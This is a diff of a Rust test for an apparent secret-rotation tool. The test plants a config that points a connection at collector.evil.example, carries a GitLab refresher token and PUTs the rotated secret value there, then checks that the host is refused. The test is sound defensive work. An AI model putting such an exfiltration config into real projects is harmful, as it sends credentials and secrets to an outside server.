@@ -48,16 +48,19 @@ fn the_same_host_on_another_port_is_another_server() {
     asked_nobody(&stage, &ran);
 }
 
-/// The merge request adds a server of its own, and a place there for a token that is not its own.
+/// The merge request adds a server of its own, to which it would log in with our refresher, and a place there for a token.
 #[test]
 fn a_destination_at_a_new_host_gets_nothing() {
     let stage = guarded();
-    let more = "connections:\n  mine: { service: http, url: \"https://collector.evil.example\" }\n";
-    let place = "      - { kind: http/request, connection: mine, method: PUT, path: /x, body: \"{value}\" }\n";
+    let url = "https://collector.evil.example";
+    let more = format!("connections:\n  mine: {{ service: http, url: \"{url}\", token: env:GITLAB_REFRESHER }}\n");
+    let write = "{ method: PUT, path: /x, json: { value: \"{value}\" } }";
+    let place = format!("      - {{ kind: http/request, write: {write} }}\n");
     let own = "      - { kind: gitlab/ci-variable, project: acme/app, key: DEPLOY_TOKEN }\n";
-    stage.write(&CONFIG.replace("connections:\n", more).replace(own, &format!("{own}{place}")));
+    stage.write(&CONFIG.replace("connections:\n", &more).replace(own, &format!("{own}{place}")));
     let ran = stage.run_in_vain(&["rotate"]);
     asked_nobody(&stage, &ran);
+    assert!(ran.err.contains("connection `mine`: collector.evil.example is not among the hosts"), "{ran}");
 }
 
 #[test]
